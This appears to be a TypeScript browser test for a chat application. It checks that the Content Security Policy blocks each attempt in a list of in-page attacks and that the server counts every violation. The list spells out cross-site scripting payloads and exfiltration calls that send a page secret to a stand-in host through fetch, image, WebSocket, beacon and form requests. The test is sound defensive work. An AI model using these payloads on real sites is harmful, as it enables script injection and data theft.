import { assert, assertEquals, assertFalse } from "@std/assert";
import { browserTest, withPeople } from "../support/browser.ts";
import { eventually } from "../support/eventually.ts";
import type { Person } from "../support/person.ts";
import { type TestServer, withServer } from "../support/server.ts";

/** Each is run in the page: what an attacker who got that far would try, by what stops it. */
const ATTEMPTS: [directive: string, attempt: () => unknown][] = [
  ["require-trusted-types-for", () => document.body.innerHTML = "<img src=x onerror=ran=1>"],
  ["require-trusted-types-for", () => document.write("<script>ran=1</script>")],
  ["require-trusted-types-for", () => {
    const script = document.createElement("script");
    script.textContent = "ran=1";
  }],
  ["require-trusted-types-for", () => {
    const script = document.createElement("script");
    script.src = "data:text/javascript,ran=1";
  }],
  [
    "require-trusted-types-for",
    () => document.createElement("iframe").srcdoc = "<script>parent.ran=1</script>",
  ],
  ["require-trusted-types-for", () => new DOMParser().parseFromString("<b>x</b>", "text/html")],
  ["require-trusted-types-for", () => setTimeout("ran=1" as unknown as () => void)],
  ["require-trusted-types-for", () => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "ran=1");
  }],
  [
    "trusted-types",
    () =>
      (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: unknown): unknown } })
        .trustedTypes.createPolicy("default", { createHTML: (text: string) => text }),
  ],
  ["require-trusted-types-for", () => {
    const script = document.createElement("script");
    script.append("ran=1");
    document.body.append(script);
  }],
  // Later, because what the debugger runs itself may use eval().
  ["require-trusted-types-for", () => void setTimeout(() => (0, eval)("ran=1"))],
  ["script-src-elem", () => void import("data:text/javascript,globalThis.ran=1" as string).catch(() => {})],
  ["style-src-attr", () => document.body.setAttribute("style", "color: red")],
  ["style-src-elem", () => {
    const style = document.createElement("style");
    style.append("* { color: red }");
    document.head.append(style);
  }],
  ["img-src", () => {
    const image = document.createElement("img");
    image.src = "http://127.0.0.2:1/pixel.png?secret-of-the-page";
  }],
  ["connect-src", () => void fetch("http://127.0.0.2:1/take?secret-of-the-page").catch(() => {})],
  ["connect-src", () => void new WebSocket("ws://127.0.0.2:1/take")],
  ["connect-src", () => navigator.sendBeacon("http://127.0.0.2:1/take", "secret-of-the-page")],
  ["frame-src", () => {
    const frame = document.createElement("iframe");
    frame.src = "http://127.0.0.2:1/";
    document.body.append(frame);
  }],
  ["base-uri", () => {
    const base = document.createElement("base");
    base.href = "http://127.0.0.2:1/";
    document.head.append(base);
  }],
];
/** The last one, because the browser's driver takes it for the beginning of a navigation. */
const LAST: typeof ATTEMPTS[number] = ["form-action", () => {
  const form = document.createElement("form");
  form.action = "http://127.0.0.2:1/take";
  document.body.append(form);
  form.submit();
}];

browserTest("what a script in the page would do next is stopped, and the server hears of it", async () => {
  await withServer({}, async (server) => {
    await withPeople(server, ["Ada"], async ({ ada }) => {
      ada.expects(/Content.Security.Policy|Trusted|ERR_|WebSocket connection/);
      for (const attempt of ATTEMPTS) await isStopped(server, ada, attempt);
      assertFalse(await ada.page.evaluate(() => "ran" in globalThis));
      assertEquals(await ada.page.evaluate(() => document.querySelectorAll("[onerror]").length), 0);
      // The page itself goes on as if nothing had been.
      await ada.say("still here");
      await ada.sees("still here");
      await isStopped(server, ada, LAST);
      const lines = (await server.readLog("error")).filter(({ event }) => event === "csp violation");
      assert(lines.length > ATTEMPTS.length, `${lines.length} lines`);
      assertFalse(JSON.stringify(lines).includes("secret-of-the-page"));
    });
  });
});

async function isStopped(
  server: TestServer,
  { page }: Person,
  [directive, attempt]: typeof ATTEMPTS[number],
): Promise<void> {
  const before = await count(server, directive);
  // What is thrown in the page is how it learns that it was stopped.
  await page.evaluate(attempt).catch(() => {});
  await eventually(
    async () => await count(server, directive) > before || undefined,
    () => `${directive} did not stop, or nobody told of: ${attempt}`,
  );
}

/** How often the server has been told of a directive. */
async function count(server: TestServer, directive: string): Promise<number> {
  const figures = await (await fetch(`${server.url}/metrics`)).text();
  const name = `parley_csp_violations_total{directive="${directive}"} `;
  return Number(figures.split("\n").find((line) => line.startsWith(name))?.slice(name.length) ?? 0);
}
